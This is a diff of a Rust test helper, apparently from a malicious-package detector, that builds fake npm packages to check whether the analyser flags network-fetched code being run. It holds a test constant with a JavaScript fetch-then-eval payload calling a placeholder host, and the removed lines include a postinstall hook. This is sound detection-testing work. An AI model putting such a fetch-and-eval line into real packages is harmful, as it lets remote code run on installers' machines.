@@ -1,24 +1,16 @@
-use crate::flow::analyse;
-use crate::package::Package;
-use crate::unpack::{Tree, text_file as file};
+use crate::flow::testing::{found, script};
+use crate::unpack::text_file as file;
 use customs_model::{SinkKind, SourceKind, Zone};
 
 const PAYLOAD: &str = "fetch('https://a.invalid/b').then(r => r.text()).then(eval)";
 
 /// When what comes over the network is run, at the earliest.
 fn runs(code: &str) -> Option<Zone> {
-    let manifest = r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}"#;
     let code = code.replace("PAYLOAD", &serde_json::Value::from(PAYLOAD).to_string());
     let code = format!("const fs = require('fs'), cp = require('child_process');\n{code}");
-    let found = analyse(&Package::new(&Tree {
-        entries: vec![
-            file("package/package.json", manifest),
-            file("package/i.js", &code),
-            file("package/d.txt", PAYLOAD),
-        ],
-        ..Tree::default()
-    }));
-    found
+    let mut entries = script(&code);
+    entries.push(file("package/d.txt", PAYLOAD));
+    found(entries)
         .flows
         .iter()
         .filter(|flow| {
